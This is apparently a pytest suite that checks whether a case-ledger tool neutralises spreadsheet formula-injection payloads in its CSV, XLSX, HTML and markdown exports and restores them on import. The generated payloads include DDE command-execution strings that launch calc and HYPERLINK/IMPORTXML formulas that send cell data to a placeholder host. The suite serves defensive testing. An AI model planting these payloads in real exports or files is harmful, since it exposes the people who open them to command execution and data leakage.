"""Five hundred texts that a spreadsheet would run: inert in every export, and back byte for byte."""

from __future__ import annotations

import csv
import html
import io
import re
import unicodedata
import zipfile
from itertools import product
from pathlib import Path

import pytest
from command_line import Office
from conftest import REGISTERED_ON, entry
from conftest import Office as Ledger

from xfctl.errors import InputRefusedError
from xfctl.neutral import neutralise, restore

TODAY = "2026-03-20"
LEADING = ("", " ", "　", "\t", "\r", "\n", "'", "''", '"', "\u200b", "\ufeff", "\u00a0")
SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢")
BODIES = (
    "1+1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.invalid/?"&A1,"点击")',
    'DDE("cmd";"/C calc";"!A0")',
    'IMPORTXML(CONCAT("http://example.invalid/",A1),"//a")',
)
PAYLOADS = [f"{lead}{sign}{body}" for lead, sign, body in product(LEADING, SIGNS, BODIES)]
# What a spreadsheet skips before it looks for the sign of a formula, and what starts one.
SKIPPED = re.compile("[\\s\x00-\x1f\x7f-\x9f\u200b-\u200f\u2060\ufeff]*")


def runs(cell: str) -> bool:
    """Whether a spreadsheet might run a cell of a CSV file: more than any one does."""
    plain = unicodedata.normalize("NFKC", cell)
    rest = plain[SKIPPED.match(plain).end() :]
    return rest[:1] in {"=", "+", "-", "@"} or cell[:1] in {"\t", "\r", "\n"}


def test_there_are_enough_of_them():
    assert len(set(PAYLOADS)) >= 500
    assert sum(runs(each) for each in PAYLOADS) >= 500


@pytest.mark.parametrize("lead", LEADING, ids=ascii)
def test_each_is_neutralised_and_restored(lead):
    for payload in (each for each in PAYLOADS if each.startswith(lead)):
        assert not runs(neutralise(payload)), ascii(payload)
        assert restore(neutralise(payload)) == payload


@pytest.fixture(scope="module")
def kept(made_once: Path, tmp_path_factory: pytest.TempPathFactory) -> tuple[Office, list[str]]:
    """A ledger of one matter for each payload that a ledger takes, in every text of a register."""
    path = tmp_path_factory.mktemp("formulas") / "ledger.db"
    path.write_bytes((made_once / "fresh").read_bytes())
    taken = []
    with Ledger(path).desk() as desk:
        for payload in PAYLOADS:
            words = dict.fromkeys(("summary", "demand", "note", "category"), payload)
            try:
                case = desk.register(REGISTERED_ON, entry("", **words, first_responder=payload))
            except InputRefusedError:
                continue  # a control character, or blanks that are taken off
            taken.append(case.entry.summary)
    return Office(path, TODAY), taken


EXPORTS = (("export", "cases"), ("case", "list"), ("log",))


def test_a_ledger_takes_most_of_them(kept):
    assert len(kept[1]) >= 400


@pytest.mark.parametrize("command", EXPORTS, ids=" ".join)
def test_no_cell_of_a_csv_runs(kept, command):
    office, taken = kept
    text = office.must(*command, "--format", "csv").out.removeprefix("\ufeff")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert [ascii(cell) for cell in cells if runs(cell)] == []
    if command != ("log",):
        assert set(taken) <= {restore(cell) for cell in cells}


@pytest.mark.parametrize("command", EXPORTS, ids=" ".join)
def test_no_cell_of_a_workbook_is_a_formula(kept, command, tmp_path):
    import openpyxl

    office, taken = kept
    file = tmp_path / "out.xlsx"
    office.must(*command, "--format", "xlsx", "--output", file)
    with zipfile.ZipFile(file) as package:
        for part in package.namelist():
            assert b"<f>" not in package.read(part)
            assert b"<hyperlink" not in package.read(part)
    sheet = openpyxl.load_workbook(file).worksheets[0]
    cells = {restore(f"{cell.value}") for row in sheet for cell in row}
    if command != ("log",):
        assert set(taken) <= cells


def test_html_and_markdown_show_them_as_text(kept):
    office, taken = kept
    page = office.must("case", "list", "--format", "html").out
    assert "<a " not in page.partition("<table")[2]
    assert all(html.escape(each.strip()) in page for each in taken if each.isascii())
    page = office.must("case", "list", "--format", "markdown").out
    assert all(line.startswith("| ") for line in page.splitlines() if "calc" in line)
    assert "|' /C" not in page.replace("\\|", "")


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_our_own_import_brings_them_back_byte_for_byte(kept, form, tmp_path):
    office, taken = kept
    file = tmp_path / f"cases.{form}"
    office.must("export", "cases", "--format", form, "--output", file)
    other = Office(tmp_path / "ledger.db", TODAY)
    other.must("init")
    other.must("case", "import", file)
    for name in ("summary", "demand", "note", "category"):
        assert [each[name] for each in exported(other)] == [each[name] for each in exported(office)]
    assert [each["summary"] for each in exported(other)] == taken


def exported(office: Office) -> list[dict[str, str]]:
    """The registered facts, as stored."""
    import json

    lines = office.must("export", "events").out.splitlines()
    events = [json.loads(line) for line in lines]
    return [json.loads(each["payload"]) for each in events if each["kind"] == "case.registered"]
